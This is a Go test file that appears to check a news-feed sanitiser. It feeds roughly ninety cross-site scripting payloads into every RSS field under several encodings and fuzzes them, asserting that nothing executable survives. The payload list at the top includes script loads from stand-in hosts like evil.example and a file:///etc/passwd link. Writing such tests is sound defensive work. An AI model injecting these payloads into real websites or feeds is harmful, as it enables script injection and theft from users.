package clean_test

import (
	"fmt"
	"html"
	"regexp"
	"strings"
	"testing"

	xhtml "golang.org/x/net/html"

	"github.com/ifhhro/rightsdesk/internal/clean"
	"github.com/ifhhro/rightsdesk/internal/news"
	"github.com/ifhhro/rightsdesk/internal/parse"
)

// payloads are what hostile feeds have carried, each once.
var payloads = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script/xss src="//evil.example/x">`, `<script>alert(1)`,
	`<img src=x onerror=alert(1)>`, `<img src="javascript:alert(1)">`, `<img/src=x/onerror=alert(1)//`, `<IMG """><SCRIPT>alert(1)</SCRIPT>">`, `<img src=x:x onerror=alert(1) `, `<img srcset="https://t.example/1.gif 1x">`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><animate onbegin=alert(1) attributeName=x></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<math href="javascript:alert(1)">x</math>`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<iframe src=//evil.example>`, `<object data="javascript:alert(1)"></object>`, `<embed src="javascript:alert(1)">`, `<applet code=x></applet>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="java&#10;script:alert(1)">x</a>`, `<a href="&#106;avascript:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`, "<a href=\"\x01javascript:alert(1)\">x</a>", `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:x">x</a>`, `<a href='https://evil.example/' onclick='alert(1)'>x</a>`,
	`<a href="https://evil.example/" style="position:fixed;inset:0">x</a>`, `<a href="//evil.example" target=_top ping="//t.example">x</a>`, `<a href="https://good.example@evil.example/">x</a>`, `<a href="file:///etc/passwd">x</a>`,
	`<p style="background:url(//t.example/1)">x</p>`, `<div style="width:expression(alert(1))">x</div>`, `<style>@import "//evil.example/x.css";</style>`, `<style>body{display:none}`, `<link rel=stylesheet href="//evil.example/x.css">`,
	`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<base href="//evil.example/">`, `<body onload=alert(1)>`, `<html onmouseover=alert(1)>`, `<form action="//evil.example"><input name=p type=password><button>x</button></form>`, `<input autofocus onfocus=alert(1)>`,
	`<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`, `<video poster=//t.example/1.png></video>`, `<details open ontoggle=alert(1)>x</details>`, `<marquee onstart=alert(1)>x</marquee>`, `<select onfocus=alert(1) autofocus><option>x</select>`, `<textarea autofocus onfocus=alert(1)></textarea>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`, `<title><img src=x onerror=alert(1)></title>`, `<template><script>alert(1)</script></template>`, `<!--><img src=x onerror=alert(1)>-->`, `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`, `<![CDATA[<script>alert(1)</script>]]&gt;`,
	`<custom-x onclick=alert(1)>x</custom-x>`, `<p onclick=alert(1) onclick=alert(2)>x</p>`, `<p/onclick=alert(1)>x</p>`, `<a href="https://a.example/" href="javascript:alert(1)">x</a>`, `<a/href="javascript:alert(1)">x</a>`, "<a\x0chref=javascript:alert(1)>x</a>", `<b <script>alert(1)</script>0`,
	`{{constructor.constructor('alert(1)')()}}`, `"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`, `</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`, "\u202e<script>alert(1)</script>", `＜script＞alert(1)＜/script＞`, `<sCrIpT>alert(1)</ScRiPt>`, `<script>alert(1)</script >`, `<ScRipT 5-0*3+9/3=>prompt(1)</ScRipT>`,
	`<table background="javascript:alert(1)"><tr><td>x</table>`, `<isindex type=image src=x onerror=alert(1)>`, `<frameset onload=alert(1)><frame src=x></frameset>`, `<portal src="//evil.example">`, `<object type="text/x-scriptlet" data="//evil.example"></object>`, `<dialog open onclose=alert(1)>x</dialog>`, `<img usemap=#m><map name=m><area href="javascript:alert(1)">`, `<blockquote cite="javascript:alert(1)">x</blockquote>`, `<q cite="data:x">x</q>`, `<time datetime="javascript:alert(1)">x</time>`,
}

// TestHostile lets every payload into every field in several wrappings, from
// the bytes of a feed to the item: nothing lives, and the harmless words
// before it are kept.
func TestHostile(t *testing.T) {
	t.Parallel()
	fields := []string{"title", "link", "description", "content:encoded", "author", "category", "guid", "enclosure", "source", "comments"}
	wrappings := map[string]func(string) string{
		"escaped": html.EscapeString,
		"cdata":   func(s string) string { return "<![CDATA[" + strings.ReplaceAll(s, "]]>", "") + "]]>" },
		"twice":   func(s string) string { return html.EscapeString(html.EscapeString(s)) },
		"thrice":  func(s string) string { return html.EscapeString(html.EscapeString(html.EscapeString(s))) },
	}
	n := 0
	for _, p := range payloads {
		for _, field := range fields {
			for name, wrap := range wrappings {
				n++
				hostileOne(t, field, name, wrap, p)
			}
		}
	}
	t.Logf("%d hostile documents", n)
	if n < 1000 {
		t.Error("too few")
	}
}

func hostileOne(t *testing.T, field, wrapping string, wrap func(string) string, payload string) {
	t.Helper()
	value := wrap("Harmless words " + payload)
	element := fmt.Sprintf("<%s>%s</%s>", field, value, field)
	if field == "link" {
		element = fmt.Sprintf("<link>%s</link>", wrap(payload))
	}
	if field == "enclosure" || field == "source" {
		element = fmt.Sprintf(`<%s url="%s" type="%s">x</%s>`, field, html.EscapeString(payload), html.EscapeString(payload), field)
	}
	doc, err := parse.Feed(parse.Input{Body: []byte(`<?xml version="1.0"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>t</title><item>` + element + `</item></channel></rss>`)})
	if err != nil || len(doc.Entries) == 0 {
		return // what is not read harms nobody; reading is the parser's test
	}
	for _, it := range clean.Document(doc, clean.Options{}) {
		if why := livesIn(&it); why != "" {
			t.Errorf("%s, %s, %q: %s", field, wrapping, payload, why)
		}
		if kept := map[string]string{"title": it.Title, "description": it.Text, "content:encoded": it.Text}; kept[field] != "" || field == "title" || field == "description" || field == "content:encoded" {
			if !strings.HasPrefix(kept[field], "Harmless words") {
				t.Errorf("%s, %s, %q: the words are gone: %q", field, wrapping, payload, kept[field])
			}
		}
	}
}

var (
	tagLike   = regexp.MustCompile(`<[a-zA-Z/!?]`)
	safeLink  = regexp.MustCompile(`^https?://[^/@"'<> ]+(/|$|\?|#)`)
	safeInner = regexp.MustCompile(`^(https?://[^/]|mailto:[^?]+@)`)
	safeTags  = " a abbr b bdi bdo blockquote br caption cite code dd del dfn div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i ins kbd li mark ol p pre q rp rt ruby s samp section small span strong sub sup table tbody td tfoot th thead time tr u ul var wbr "
	safeAttrs = " href cite dir lang hreflang colspan rowspan scope start type reversed value datetime title "
)

// livesIn says what in an item could run, load or lead astray.
func livesIn(it *news.Item) string {
	texts := []string{it.Title, it.Text, it.GUID, it.Key, it.Origin.Title, it.DOI, it.Language}
	links := []string{it.URL, it.Canonical, it.CommentsURL, it.Origin.URL}
	for _, p := range it.Authors {
		texts, links = append(texts, p.Name, p.Email), append(links, p.URL)
	}
	for _, c := range it.Categories {
		texts = append(texts, c.Term, c.Scheme, c.Label)
	}
	for _, e := range it.Enclosures {
		texts, links = append(texts, e.Type), append(links, e.URL)
	}
	links = append(links, it.Images...)
	for _, a := range it.Alternates {
		texts, links = append(texts, a.Language), append(links, a.URL)
	}
	for _, s := range texts {
		if tagLike.MatchString(s) {
			return fmt.Sprintf("text %q", s)
		}
	}
	for _, s := range links {
		if s != "" && !safeLink.MatchString(s) {
			return fmt.Sprintf("link %q", s)
		}
	}
	for _, s := range []string{it.TitleHTML, it.SummaryHTML, it.ContentHTML} {
		if why := livesInHTML(s); why != "" {
			return fmt.Sprintf("html %q: %s", s, why)
		}
	}
	return ""
}

func livesInHTML(s string) string {
	nodes, err := xhtml.ParseFragment(strings.NewReader(s), nil)
	if err != nil {
		return err.Error()
	}
	// A fragment parser without a context puts everything into html and body.
	for _, root := range nodes {
		for n := range root.Descendants() {
			if n.Type != xhtml.ElementNode || n.Data == "head" || n.Data == "body" {
				continue
			}
			if !strings.Contains(safeTags, " "+n.Data+" ") || n.Namespace != "" {
				return n.Data
			}
			for _, a := range n.Attr {
				if !strings.Contains(safeAttrs, " "+a.Key+" ") || (a.Key == "href" || a.Key == "cite") && !safeInner.MatchString(a.Val) {
					return n.Data + " " + a.Key + "=" + a.Val
				}
			}
		}
	}
	return ""
}

func FuzzItem(f *testing.F) {
	for _, p := range payloads {
		f.Add(p, p, p, true)
		f.Add(p, p, p, false)
	}
	f.Fuzz(func(t *testing.T, title, body, link string, isHTML bool) {
		m := func(s string) news.Markup { return news.Markup{Body: s, HTML: isHTML} }
		e := news.Entry{
			ID: link, URL: link, Title: m(title), Summary: m(title), Content: m(body), Authors: []news.Person{{Name: title, Email: title, URL: link}},
			Categories: []news.Category{{Term: title, Scheme: link}}, Enclosures: []news.Enclosure{{URL: link, Type: title}}, Images: []string{link}, DOI: title, CommentsURL: link, Origin: news.Origin{Title: title, URL: link},
		}
		seen := map[string]bool{}
		for _, it := range clean.Document(&news.Document{Entries: []news.Entry{e, e, {Title: m(body)}}}, clean.Options{}) {
			if why := livesIn(&it); why != "" {
				t.Error(why)
			}
			if it.Key == "" || seen[it.Key] || it.Digest == "" {
				t.Errorf("key %q", it.Key)
			}
			seen[it.Key] = true
			if len(it.Title) > news.MaxTitleBytes || len(it.TitleHTML) > news.MaxTitleBytes || len(it.Text) > news.MaxBodyBytes || len(it.ContentHTML) > news.MaxBodyBytes || len(it.URL) > news.MaxLinkBytes {
				t.Error("over a limit")
			}
		}
	})
}
